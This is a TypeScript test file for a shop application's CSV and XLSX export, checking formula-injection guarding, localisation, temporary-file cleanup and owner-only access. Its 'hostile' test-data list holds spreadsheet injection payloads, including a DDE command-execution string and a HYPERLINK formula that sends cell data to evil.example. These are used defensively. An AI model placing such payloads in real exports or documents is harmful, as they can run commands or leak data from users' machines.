import { randomUUID } from 'node:crypto';
import { existsSync, readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import readXlsx from 'read-excel-file/node';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { lists } from '../../electron/core/exports/lists.ts';
import { writeList } from '../../electron/core/exports/write-list.ts';
import { openFrozenView } from '../../electron/core/store/frozen-view.ts';
import { change } from '../../electron/core/store/statement.ts';
import { guardFormula, unguardFormula } from '../../shared/exports/formula-guard.rules.ts';
import { listNames } from '../../shared/exports/lists.ts';
import { languages } from '../../shared/kernel/language.ts';
import { type Desk, openDesk } from '../kit/desk.ts';
import { exportedList, fetched, finished } from '../kit/exported.ts';
import { keysOf } from '../kit/locale-keys.ts';
import { athens, customerOf, deviceOf } from '../kit/records.ts';
import { unzipped } from '../kit/unzipped.ts';

let desk: Desk;
beforeEach(() => {
  desk = openDesk();
});
afterEach(() => desk.close());

const hostile = [
  '=1+1',
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '+30 210 555 0100',
  '-2+3',
  '@SUM(1+1)',
  '\t=1',
  '\r=1',
  '\u0000=1',
  '＝1+1',
  ' \u200b=1',
  "'=1",
  'a,b;c\td',
  'she said "no"',
  'two\nlines\r\nthree',
  '\u202Eright to left\u202C سلام',
  '</t></is></c><c><f>1+1</f></c>',
  '&lt;b&gt; ]]> <!-- x',
  '_x0041_ and _x000D_',
  '\ud83d\udd0c plug',
  'half \ud83d',
  'x'.repeat(40_000),
  ' spaces around ',
  '#REF!',
  '1E5',
  'TRUE',
  '2026-01-02',
];

function hostileShop(): Promise<void> {
  return (async () => {
    for (const [index, text] of hostile.entries()) {
      const { id } = await desk.client.customers.register(customerOf({ name: `C${index}` }));
      desk.within(({ store }) =>
        store.run(change('UPDATE customer SET name = :text, notes = :text, flag = :text WHERE id = :id'), {
          id,
          text,
        }),
      );
    }
  })();
}

/** Every cell of a sheet as a spreadsheet types it, from its XML alone. */
function typedCells(xml: string): { type: string; text: string }[][] {
  return [...xml.matchAll(/<row r="\d+">(.*?)<\/row>/gs)].map(([, row = '']) =>
    [...row.matchAll(/<c r="[A-Z]+\d+"([^>]*)>(.*?)<\/c>/gs)].map(([, attributes = '', inside = '']) => ({
      type: /t="(\w+)"/.exec(attributes)?.[1] ?? 'n',
      text: decoded(/<t [^>]*>(.*?)<\/t>/s.exec(inside)?.[1] ?? /<v>(.*?)<\/v>/s.exec(inside)?.[1] ?? ''),
    })),
  );
}

function decoded(xml: string): string {
  return xml
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&')
    .replace(/_x([0-9A-F]{4})_/g, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)));
}

describe('hostile text', () => {
  test('comes back literally from CSV, and nothing in it begins like a formula', async () => {
    await hostileShop();
    const csv = await exportedList(desk.client, 'customers', 'csv');
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<
      string,
      string
    >[];
    // an unpaired half of a character has no bytes in UTF-8
    const written = hostile.map((text) => Buffer.from(text).toString());
    for (const column of ['Name', 'Notes', 'Note to see at once']) {
      expect(rows.map((row) => unguardFormula(row[column] ?? ''))).toEqual(written);
      for (const row of rows) expect(row[column]).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝\p{Cc}]/u);
    }
    expect(rows[0]?.Name).toBe("'=1+1");
  });

  test('comes back literally from XLSX as text, and there is no formula', async () => {
    await hostileShop();
    const bytes = await exportedList(desk.client, 'customers', 'xlsx');
    const parts = await unzipped(bytes);
    const xml = String(parts.get('xl/worksheets/sheet1.xml'));
    expect(xml).not.toMatch(/<f[ >]/);
    const rows = typedCells(xml);
    const headings = (rows[0] ?? []).map(({ text }) => text);
    const place = headings.indexOf('Name');
    const cells = rows.slice(1).map((row) => row[place]);
    expect(new Set(cells.map((cell) => cell?.type))).toEqual(new Set(['inlineStr']));
    const written = hostile.map((text) =>
      text.length > 32_767 ? `${text.slice(0, 32_766)}…` : Buffer.from(text).toString(),
    );
    expect(cells.map((cell) => cell?.text)).toEqual(written);
    const [sheet] = await readXlsx(bytes);
    const again = (sheet as unknown as { data: unknown[][] }).data;
    expect(again.slice(1).map((row) => row[place])[2]).toBe(hostile[2]);
  });
});

describe('every list', () => {
  const cells = (xml: string) => typedCells(xml);

  test.each(listNames)('%s has a heading in each language and comes in both formats', async (list) => {
    for (const language of languages) {
      const keys = keysOf(language);
      for (const { key, kind } of lists[list].columns) {
        if (key === 'id' || key.endsWith('_id')) continue;
        expect(keys.has(`exports.column.${key}`), `${language} ${key}`).toBe(true);
        if (kind.includes(':')) {
          const words = [...keys.keys()].filter((known) =>
            known.startsWith(`exports.word.${kind.split(':')[1]}.`),
          );
          expect(words.length, `${language} ${kind}`).toBeGreaterThan(0);
        }
      }
    }
    const csv = await exportedList(desk.client, list, 'csv');
    const [heading] = parse(csv, { bom: true }) as string[][];
    expect(heading?.[0]).toBe('id');
    expect(heading).toHaveLength(lists[list].columns.length);
    const xlsx = await unzipped(await exportedList(desk.client, list, 'xlsx'));
    expect(cells(String(xlsx.get('xl/worksheets/sheet1.xml')))[0]?.map(({ text }) => text)).toEqual(heading);
  });

  test('has real types in a spreadsheet: money, days, instants, yes and no', async () => {
    const { client } = desk;
    const anna = await client.customers.register(
      customerOf({ name: 'Anna', phones: [{ typed: '+30 694 123 4567', label: '' }] }),
    );
    const categoryId = await desk.category('Kettle');
    await client.devices.register(
      deviceOf({
        customerId: anna.id,
        categoryId,
        purchasedOn: '2026-01-31',
        priceMinor: 1205,
        serial: '007',
      }),
    );
    const [sheet] = await readXlsx(await exportedList(client, 'devices', 'xlsx'));
    const [heading = [], row = []] = (sheet as unknown as { data: unknown[][] }).data;
    const of = (name: string) => row[heading.indexOf(name)];
    expect(of('Price')).toBe(12.05);
    expect(of('Purchase date')).toEqual(new Date(Date.UTC(2026, 0, 31)));
    expect(of('Written down at')).toEqual(new Date(Date.UTC(2026, 9, 5, 9, 0, 0)));
    expect(of('Registered for its warranty')).toBe(true);
    expect(of('Serial number')).toBe('007');
    expect(of('Customer phone')).toBe('+30 694 123 4567');
    const [csv] = parse(await exportedList(client, 'devices', 'csv'), { bom: true, columns: true }) as Record<
      string,
      string
    >[];
    expect(csv).toMatchObject({
      Price: '12.05',
      'Purchase date': '2026-01-31',
      'Written down at': '2026-10-05T09:00:00+03:00',
      'Customer phone': guardFormula('+30 694 123 4567'),
      Category: 'Kettle',
    });
  });

  test('speaks the reader’s language, and reads from right to left where it does', async () => {
    const { client } = desk;
    await client.people.setLanguage({ language: 'fa', calendar: 'persian' });
    await client.customers.register(customerOf({ name: 'رضا' }));
    const parts = await unzipped(await exportedList(client, 'customers', 'xlsx'));
    const xml = String(parts.get('xl/worksheets/sheet1.xml'));
    expect(xml).toContain('rightToLeft="1"');
    expect(xml).toMatch(/<pane ySplit="1"[^>]*state="frozen"/);
    expect(cells(xml)[0]?.map(({ text }) => text)).toContain('مانده حساب');
    expect(cells(xml)[1]?.map(({ text }) => text)).toContain('رضا');
  });

  test('goes on in a second sheet where the first is full', async () => {
    for (let n = 0; n < 7; n++) await desk.client.customers.register(customerOf({ name: `C${n}` }));
    const view = openFrozenView(desk.file);
    const path = join(desk.folder, 'small.xlsx');
    const order = {
      list: 'customers',
      format: 'xlsx',
      language: 'en',
      zone: 'UTC',
      currency: 'EUR',
      madeAt: 0,
    } as const;
    await writeList(view, order, path, () => undefined, 4);
    view.close();
    const sheets = await readXlsx(path);
    const rows = (sheets as unknown as { data: unknown[][] }[]).map(({ data }) => data.map((row) => row[2]));
    expect(rows).toEqual([
      ['Name', 'C0', 'C1', 'C2'],
      ['Name', 'C3', 'C4', 'C5'],
      ['Name', 'C6'],
    ]);
  });

  test('holds nothing that somebody could sign in with', async () => {
    const csv = String(await exportedList(desk.client, 'people', 'csv'));
    expect(csv).toContain('Eleni');
    expect(csv).not.toMatch(/scrypt|\$/);
  });
});

describe('words of the lists', () => {
  /** Said by the screens already: a list must not say it otherwise. */
  const same: Record<string, string> = {
    kind: 'customers.kind',
    channel: 'customers.channel',
    proof: 'devices.proof',
    state: 'repairs.state',
    outcome: 'warranty.outcome',
    coverage: 'repairs.coverage',
    layer: 'entitlement.layer',
    paper: 'papers.kind',
    role: 'people.role',
    service: 'entitlement.kind',
    'yes-no': 'common.word',
  };

  test.each(languages)('are those of the screens in %s', (language) => {
    const keys = keysOf(language);
    for (const [word, screen] of Object.entries(same)) {
      const said = [...keys].filter(([key]) => key.startsWith(`exports.word.${word}.`));
      expect(said.length).toBeGreaterThan(0);
      for (const [key, text] of said) expect(text, key).toBe(keys.get(`${screen}.${key.split('.')[3]}`));
    }
  });
});

describe('a file on its way out', () => {
  const outgoing = () => {
    const folder = join(desk.folder, 'outgoing');
    return existsSync(folder) ? readdirSync(folder) : [];
  };

  test('is gone when it was fetched, and the history says who took what', async () => {
    await exportedList(desk.client, 'customers', 'csv');
    await expect.poll(outgoing).toEqual([]);
    expect(await desk.client.exports.past()).toMatchObject([
      { what: 'customers', by: 'Eleni', fileName: 'aftercare-customers-2026-10-05.csv', rows: 0 },
    ]);
    const { rows } = await desk.client.audit.list({ domain: 'exports', limit: 10 });
    expect(rows.map(({ procedure }) => procedure)).toEqual(['exports.settle', 'exports.start']);
  });

  test('is fetched by nobody else, and is gone after a day and with the program', async () => {
    const { jobId } = await desk.client.exports.start({ list: 'people', format: 'csv' });
    await finished(desk.client, jobId);
    const other = desk.clientAs('Nikos', ['owner']);
    await expect(other.exports.chunk({ jobId, index: 0 })).rejects.toMatchObject({
      data: { reason: 'exports.job-unknown' },
    });
    await expect(desk.client.exports.chunk({ jobId, index: 1 })).rejects.toMatchObject({
      data: { reason: 'exports.no-such-chunk' },
    });
    expect(outgoing()).toHaveLength(1);
    desk.clock.advanceMs(400 * 24 * 3_600_000);
    await desk.signIn();
    const next = await desk.client.exports.start({ list: 'people', format: 'csv' });
    await finished(desk.client, next.jobId);
    await expect(desk.client.exports.job({ jobId })).rejects.toMatchObject({
      data: { reason: 'exports.job-unknown' },
    });
    expect(outgoing()).toHaveLength(1);
    desk.reopen();
    expect(outgoing()).toEqual([]);
  });

  test('leaves nothing behind when it is cancelled', async () => {
    const { jobId } = await desk.client.exports.start({ list: 'events', format: 'xlsx' });
    await desk.client.exports.cancel({ jobId });
    expect((await finished(desk.client, jobId)).state).toBe('cancelled');
    await expect.poll(outgoing).toEqual([]);
    await expect(desk.client.exports.chunk({ jobId, index: 0 })).rejects.toMatchObject({
      data: { reason: 'exports.not-ready' },
    });
  });

  test('that cannot be written says so', async () => {
    const { jobId } = await desk.client.exports.start({ list: 'customers', format: 'csv' });
    rmSync(join(desk.folder, 'outgoing'), { recursive: true });
    const job = await finished(desk.client, jobId);
    expect(job).toMatchObject({ state: 'failed', failure: 'exports.not-written' });
    expect(desk.faults.splice(0)).toMatchObject([{ code: 'ENOENT' }]);
  });
});

describe('the whole shop', () => {
  test('is written only for its owner’s password or PIN, and a miss counts', async () => {
    const { exports } = desk.client;
    const wrong = await exports.startArchive({ presentSecret: 'not it' });
    expect(wrong).toEqual({ outcome: 'wrong', waitSeconds: 0, jobId: null });
    for (let tries = 0; tries < 4; tries++) await exports.startArchive({ presentSecret: 'not it' });
    await expect(exports.startArchive({ presentSecret: athens.owner.password })).rejects.toMatchObject({
      data: { reason: 'people.wait' },
    });
    desk.clock.advanceMs(3_600_000);
    const right = await exports.startArchive({ presentSecret: athens.owner.password });
    expect(right.outcome).toBe('started');
    expect((await fetched(desk.client, right.jobId ?? '')).length).toBeGreaterThan(1000);
    expect((await exports.past())[0]?.what).toBe('archive');
  });

  test('is nobody’s but the owner’s', async () => {
    const counter = desk.clientAs('Petros', ['counter']);
    const refused = { code: 'FORBIDDEN', data: { reason: 'people.not-yours' } };
    await expect(counter.exports.start({ list: 'people', format: 'csv' })).rejects.toMatchObject(refused);
    await expect(counter.exports.startArchive({ presentSecret: 'x' })).rejects.toMatchObject(refused);
    await expect(counter.exports.chunk({ jobId: randomUUID(), index: 0 })).rejects.toMatchObject(refused);
  });
});
